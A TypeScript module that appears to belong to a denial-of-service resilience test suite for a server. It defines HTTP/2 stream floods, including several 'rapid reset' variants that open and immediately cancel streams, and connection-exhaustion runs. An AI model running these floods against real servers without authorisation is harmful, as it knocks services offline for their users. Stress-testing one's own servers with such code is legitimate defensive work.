import { setTimeout as delay } from 'node:timers/promises';
import type { Attack } from '../attack.js';
import { callBusily, REQUEST } from '../call-busily.js';
import { beginCall, callHeaders, dataFrames, READ } from '../call-frames.js';
import { flood } from '../flood.js';
import { RawConnection } from '../raw-connection.js';

/** As many streams on one socket as it takes. */
export const STREAM_ATTACKS: readonly Attack[] = [
  {
    title: 'streams on one socket, as many at once as the server allows',
    alsoOverTls: true,
    unit: 'streams',
    short: 3_000,
    full: 100_000,
    run: callBusily,
  },
  {
    title: 'streams on one socket, against what the server allows',
    alsoOverTls: true,
    unit: 'streams',
    short: 20_000,
    full: 100_000,
    async run(target, size) {
      const headers = callHeaders(READ, target.key);
      await flood(target, size, (connection) => beginCall(connection.newStream(), headers));
    },
  },
  {
    title: 'rapid reset',
    alsoOverTls: true,
    unit: 'streams',
    short: 20_000,
    full: 100_000,
    async run(target, size) {
      const headers = callHeaders(READ, target.key);
      await flood(target, size, (connection) => {
        const stream = connection.newStream();
        return Buffer.concat([
          beginCall(stream, headers),
          dataFrames(stream, REQUEST, true),
          connection.cancel(stream),
        ]);
      });
    },
  },
  {
    title: 'rapid reset without a credential',
    unit: 'streams',
    short: 20_000,
    full: 100_000,
    async run(target, size) {
      const headers = callHeaders(READ);
      await flood(target, size, (connection) => {
        const stream = connection.newStream();
        return Buffer.concat([beginCall(stream, headers), connection.cancel(stream)]);
      });
    },
  },
  {
    title: 'connections that end with all calls open that they may have, after others were broken off',
    unit: 'connections',
    short: 20,
    full: 500,
    async run(target, size) {
      const headers = callHeaders(READ);
      for (let count = 0; count < size; count += 1) {
        const connection = await RawConnection.open(target);
        const broken = Array.from({ length: 60 }, () => {
          const stream = connection.newStream();
          return Buffer.concat([beginCall(stream, headers), connection.cancel(stream)]);
        });
        const open = Array.from({ length: 100 }, () => beginCall(connection.newStream(), headers));
        await connection.send(Buffer.concat([...broken, ...open]));
        // By then they are read; some have begun.
        await delay(20);
        await connection.close();
      }
    },
  },
];
